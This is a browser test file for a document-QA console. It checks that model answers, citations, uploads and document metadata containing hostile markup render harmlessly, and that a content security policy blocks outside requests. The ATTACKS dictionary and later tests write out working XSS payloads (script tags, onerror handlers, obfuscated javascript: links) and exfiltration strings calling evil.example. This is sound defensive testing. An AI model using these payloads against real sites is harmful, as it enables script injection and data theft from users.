"""What a document or a model says is never run, never loaded, never sent anywhere.

That nothing broke a rule and nothing was asked of elsewhere is checked after every test: see Watch.
"""

import pytest
from playwright.sync_api import Locator, expect

from tests.browser.console import INDEXED_MILLISECONDS, Console, cites, ends, listed, says

HARMLESS = (
    "p, br, strong, em, del, code, pre, a, ul, ol, li, table, thead, tbody, tr, th, td, button"
)
MARKUP = "a, b, img, svg, iframe, video, script, style, form, base, meta, math, p, input"
ATTACKS = {
    "a script": "<script>window.hacked = 1</script>",
    "an image that fails": '<img src="x" onerror="window.hacked = 1">',
    "a markdown image": "![secret](https://evil.example/p.png?q=secret)",
    "a script link": "[press me](javascript:window.hacked=1)",
    "a disguised script link": "[press me](JaVa&#x09;script:window.hacked=1)",
    "a data link": "[press me](data:text/html,<script>window.hacked=1</script>)",
    "a link that brings a key": "[press me](/#key=gw_of_somebody_else)",
    "an svg": '<svg onload="window.hacked = 1"><image href="https://evil.example/i"/></svg>',
    "a frame": '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    "a video": '<video src="https://evil.example/v" autoplay></video>',
    "a form": '<form action="https://evil.example/"><input name="key"></form>',
    "a style": "<style>@import url(https://evil.example/s.css);</style>",
    "a style attribute": '<p style="background:url(https://evil.example/b)">text</p>',
    "a base": '<base href="https://evil.example/"><a href="x">press me</a>',
    "a clobbered id": '<a id="messages" name="question">text</a>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a handler": '<a href="https://example.org" onmouseover="window.hacked=1">press me</a>',
    "mathematics": "<math><mtext><img src=x onerror=window.hacked=1></mtext></math>",
    "a titled link": '[x](https://example.org "\\" onmouseover=window.hacked=1 x=\\"")',
}


def expect_harmless(console: Console, answer: Locator) -> None:
    """Nothing but plain tags, without handlers, and links that lead to the web only."""
    text = answer.locator(".text")
    everything = text.locator("*").count()
    assert text.locator(HARMLESS).count() == everything
    attributes = text.evaluate(
        "e => [...e.querySelectorAll('*')].flatMap(x => x.getAttributeNames())"
    )
    assert set(attributes) <= {"href", "target", "rel", "title", "class", "type", "aria-label"}
    links = text.locator("a[href]").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert all(link.startswith(("https://", "http://")) for link in links)
    for link in text.get_by_text("press me").all():
        link.hover()
    assert console.page.evaluate("window.hacked") is None


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_renders_a_hostile_answer_harmlessly(console: Console, attack: str) -> None:
    console.answers_with(says(f"Before {attack} after."), says(f"\n\n{attack}\n"), ends("stop"))

    answer = console.ask("What?")

    expect(answer.locator(".text")).to_contain_text("Before")
    expect_harmless(console, answer)


def test_shows_a_hostile_citation_as_the_text_that_it_is(console: Console) -> None:
    attack = "".join(ATTACKS.values())
    console.answers_with(says("Blue [1]."), cites(attack, attack, attack), ends("stop"))
    answer = console.ask("What?")

    answer.locator(".marker").click()

    assert console.page.locator("#passage-text").text_content() == attack
    expect(console.page.locator("#passage-title")).to_have_text(attack)
    expect(console.passage.locator("script, img, svg, iframe, a, style, form")).to_have_count(0)
    expect(answer.locator(".citation :is(script, img, svg, iframe, a, style)")).to_have_count(0)
    assert console.page.evaluate("window.hacked") is None


def test_quotes_a_hostile_document_harmlessly(console: Console) -> None:
    attack = (
        "The Zorbex valve opens by <script>window.hacked=1</script> two turns to the left "
        "<img src=https://evil.example/z onerror=window.hacked=1> "
        "![pixel](https://evil.example/p.png) and [press me](javascript:window.hacked=1) at once."
    )
    name = "<img src=x onerror=window.hacked=1>.txt"
    row = console.upload(name, f"Valves\n\n{attack}\n".encode())
    expect(row).to_have_class("indexed", timeout=INDEXED_MILLISECONDS)

    answer = console.ask("How does the Zorbex valve open?")

    expect(answer.locator(".text")).to_contain_text("two turns to the left")
    expect(answer.locator(".text")).to_contain_text("<script>")
    expect_harmless(console, answer)
    answer.locator(".marker").first.click()
    expect(console.passage.locator("mark")).to_have_text(attack)
    assert console.page.evaluate("window.hacked") is None


def test_shows_what_is_said_of_a_hostile_document_as_the_text_that_it_is(console: Console) -> None:
    attack = "".join(ATTACKS.values())
    about = {
        "state": "needs_review",
        "summary": attack,
        "language": attack,
        "labels": [{"name": attack, "confidence": 1}],
        "fields": {attack: [attack]},
        "reasons": [attack],
    }
    refused = {"code": "invalid_name", "detail": attack}
    console.lists(
        listed(attack, "indexed", warnings=[attack], understanding=about),
        listed("refused", "failed", failure=refused),
    )
    console.page.reload()

    console.page.locator("#document-list summary").first.click()

    assert console.page.locator("#document-list .summary").text_content() == attack
    assert console.page.locator("#document-list .name").first.text_content() == attack
    assert console.page.locator("#document-list .warning").text_content() == attack
    assert console.page.locator("#document-list .state").last.text_content() == attack
    expect(console.page.locator(f"#document-list :is({MARKUP})")).to_have_count(0)
    assert console.page.evaluate("window.hacked") is None


def test_opens_links_without_telling_where_from(console: Console) -> None:
    console.answers_with(says("See [the site](https://example.org/a)."), ends("stop"))

    answer = console.ask("Where?")

    link = answer.get_by_role("link", name="the site")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_refuses_scripts_and_requests_that_are_not_its_own(console: Console) -> None:
    tried = """async () => {
      const refused = [];
      addEventListener("securitypolicyviolation", (violation) => {
        refused.push(violation.effectiveDirective);
      });
      const attempts = [
        () => { document.body.innerHTML = "<b>x</b>"; },
        () => fetch("https://evil.example/"),
        () => fetch("http://127.0.0.1:9/"),
        () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/i" })),
      ];
      for (const attempt of attempts) await (async () => attempt())().catch(() => {});
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      return refused;
    }"""
    page = console.page.context.new_page()
    page.goto(console.served.url)

    refused = page.evaluate(tried)

    assert sorted(refused) == ["connect-src", "connect-src", "img-src", "require-trusted-types-for"]
